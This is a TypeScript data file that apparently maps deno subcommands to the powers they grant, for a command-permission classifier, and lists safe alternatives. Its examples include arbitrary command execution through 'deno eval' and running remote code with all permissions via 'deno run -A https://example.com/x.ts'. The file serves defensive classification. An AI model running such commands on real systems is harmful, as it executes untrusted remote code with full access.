import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'deno',
    powers: [
      { can: 'exec', words: `eval 'new Deno.Command("id").outputSync()'`, purpose: true, seen: true },
      { can: 'install', words: 'install -g -A jsr:@x/y', mild: true, needs: 'remote-endpoint' },
      { can: 'network-out', words: 'run -A https://example.com/x.ts', mild: true, needs: 'remote-endpoint' },
    ],
    safe: ['test'],
    instead: ['deno test', 'deno --version', 'deno fmt --check', 'deno lint'],
    source: ['docs:deno'],
    confidence: 'high',
  },
  {
    prefix: 'deno eval',
    powers: [{ can: 'exec', words: `'new Deno.Command("id").outputSync()'`, purpose: true }],
    rather: ['deno run scripts/build.ts'],
    source: ['docs:deno'],
    confidence: 'medium',
  },
  {
    prefix: 'deno run',
    powers: [{ can: 'exec', words: '-A https://example.com/x.ts', purpose: true, needs: 'attacker-file', seen: true }],
    instead: ['deno run scripts/build.ts'],
    source: ['docs:deno'],
    confidence: 'medium',
  },
];
